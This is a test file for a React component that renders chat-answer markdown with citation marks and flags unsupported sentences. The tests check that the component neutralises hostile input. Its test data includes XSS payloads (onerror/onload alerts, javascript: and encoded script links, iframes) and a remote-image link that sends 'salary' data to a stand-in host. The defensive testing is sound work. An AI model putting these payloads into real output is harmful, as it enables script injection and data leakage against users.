import { render, screen, within } from "@testing-library/react";
import userEvent from "@testing-library/user-event";
import { afterEach, describe, expect, it, vi } from "vitest";
import type { TextRange } from "@/lib/domains/chat/schema";
import { AnswerMarkdown } from "./answer-markdown";

function show(text: string, { numbers = [] as number[], unsupported = [] as TextRange[] } = {}) {
  const { container } = render(
    <AnswerMarkdown
      text={text}
      numbers={new Set(numbers)}
      unsupported={unsupported}
      renderMark={(number, key) => (
        <button key={key} type="button">
          mark {number}
        </button>
      )}
    />,
  );
  return container;
}

function rangeOf(text: string, sentence: string): TextRange {
  const start = text.indexOf(sentence);
  return { start, end: start + sentence.length };
}

afterEach(() => vi.restoreAllMocks());

describe("a hostile answer", () => {
  it.each([
    ["raw HTML", 'Hello <img src="https://evil.example/x.png" onerror="alert(1)"> there'],
    ["a block of HTML", "<script>alert(1)</script>\n\n<iframe src='https://evil.example'></iframe>"],
    ["a remote image", "![secret](https://evil.example/?q=salary)"],
    ["an image by reference", "![secret][pic]\n\n[pic]: https://evil.example/x.png"],
    ["an svg", "<svg onload=alert(1)><a href='javascript:alert(1)'>x</a></svg>"],
    ["a script link", "[click](javascript:alert(1))"],
    ["a data link", "[click](data:text/html;base64,PHNjcmlwdD4=)"],
    ["a spelled script link", "[click](JaVaScRiPt&#58;alert(1))"],
    ["a link into the product", "[click](/acme/main/ask?q=delete)"],
    ["a protocol-relative link", "[click](//evil.example)"],
    ["an HTML link", '<a href="https://evil.example">click</a>'],
    ["style", "<style>body{display:none}</style>"],
  ])("%s becomes text: nothing is loaded, run or followed", (_, text) => {
    const container = show(text);
    expect(container.querySelector("img, script, iframe, svg, style, a, link, object, embed, form, input")).toBeNull();
    for (const element of container.querySelectorAll("*")) {
      for (const attribute of element.getAttributeNames()) expect(attribute).not.toMatch(/^(on|src|href|style)/u);
    }
    expect(screen.queryByRole("button")).toBeNull();
  });

  it("shows the words of an image and of HTML", () => {
    expect(show("![the plan](https://evil.example/x.png)").textContent).toBe("the plan");
    expect(show("a <b>bold</b> claim").textContent).toBe("a <b>bold</b> claim");
  });

  it("asks before it opens another host, and opens without a way back", async () => {
    const open = vi.spyOn(window, "open").mockReturnValue(null);
    show("See [the standard](https://evil.example/path).");
    await userEvent.click(screen.getByRole("button", { name: "the standard" }));
    const dialog = await screen.findByRole("alertdialog");
    expect(dialog.textContent).toContain("https://evil.example/path");
    expect(open).not.toHaveBeenCalled();
    await userEvent.click(within(dialog).getByRole("button", { name: "Open in a new tab" }));
    expect(open).toHaveBeenCalledWith("https://evil.example/path", "_blank", "noopener,noreferrer");
  });

  it("cannot turn a citation into a link", () => {
    show("Claim [1]. More [1](https://evil.example).\n\n[1]: https://evil.example", { numbers: [1] });
    const names = screen.getAllByRole("button").map((button) => button.textContent);
    expect(names.filter((name) => name === "mark 1").length).toBe(3);
  });

  it("cannot forge marks or ranges with private-use characters", () => {
    const container = show("forged [\uE0027] and \uE000all of this");
    expect(screen.queryByRole("button")).toBeNull();
    expect(container.querySelector("[data-unsupported]")).toBeNull();
  });
});

describe("marks", () => {
  it("stand for citations that exist, in order; other numbers stay text", () => {
    const container = show("**Doors resist fire.**[1] Walls too [2][3], says [4].", { numbers: [1, 2, 3] });
    expect(screen.getAllByRole("button").map((button) => button.textContent)).toEqual(["mark 1", "mark 2", "mark 3"]);
    expect(container.querySelector("strong")?.textContent).toBe("Doors resist fire.");
    expect(container.textContent).toContain("says [4].");
  });

  it("are not made inside code", () => {
    const container = show("`list[1]` and\n\n```\nrow[1]\n```", { numbers: [1] });
    expect(container.querySelector("pre")?.textContent).toBe("row[1]");
  });

  it("work in lists and tables", () => {
    show("- one [1]\n- two [2]\n\n| a | b |\n|---|---|\n| x [1] | y [2] |", { numbers: [1, 2] });
    expect(screen.getAllByRole("button").length).toBe(4);
    expect(screen.getAllByRole("listitem").length).toBe(2);
  });
});

describe("unsupported sentences", () => {
  const marked = (container: HTMLElement) => [...container.querySelectorAll("[data-unsupported]")].map((element) => element.textContent);

  it("are set apart with a label for screen readers, the others are not", () => {
    const text = "Doors resist fire [1]. The lift is blue. The end.";
    expect(marked(show(text, { numbers: [1], unsupported: [rangeOf(text, "The lift is blue.")] }))).toEqual([
      "Not supported: The lift is blue.",
    ]);
  });

  it("keep their place behind emphasis, in lists and across cells", () => {
    const bold = "**The lift is blue.** Yes.";
    const first = show(bold, { unsupported: [{ start: 0, end: 21 }] });
    expect(first.querySelector("strong")?.textContent).toBe("Not supported: The lift is blue.");
    const list = "- fine [1]\n- The lift is blue.\n- fine [1]";
    const second = show(list, { numbers: [1], unsupported: [rangeOf(list, "- The lift is blue.")] });
    expect(marked(second)).toEqual(["Not supported: The lift is blue."]);
    expect(second.querySelectorAll("li").length).toBe(3);
    const mixed = "The *lift* is **blue** here. Next.";
    expect(marked(show(mixed, { unsupported: [rangeOf(mixed, "The *lift* is **blue** here.")] })).join("")).toBe(
      "Not supported: The lift is blue here.",
    );
  });
});
